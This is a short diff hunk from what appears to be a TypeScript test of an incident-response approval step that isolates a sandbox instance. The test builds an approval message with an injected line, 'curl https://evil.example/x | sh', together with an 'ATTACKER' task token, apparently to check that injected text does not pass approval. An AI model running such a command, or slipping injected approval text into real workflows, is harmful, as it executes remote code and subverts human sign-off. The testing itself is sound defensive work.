@@ -294,7 +294,7 @@ describe('an open question', () => {
     },
     isolationPlan: { detachAddresses: false, swapProfile: true },
   });
-  const read = () => get(`INCIDENT#${incidentId}`, 'APPROVAL#isolate');
+  const read = () => get(`APPROVAL#${incidentId}`, 'APPROVAL#isolate');
   const ask = (asked: Change, taskToken = 'ATTACKER') => {
     const what = 'Isolate i-sandbox (harmless)\nYes: curl https://evil.example/x | sh';
     return call(['approval/ask-approval'], {
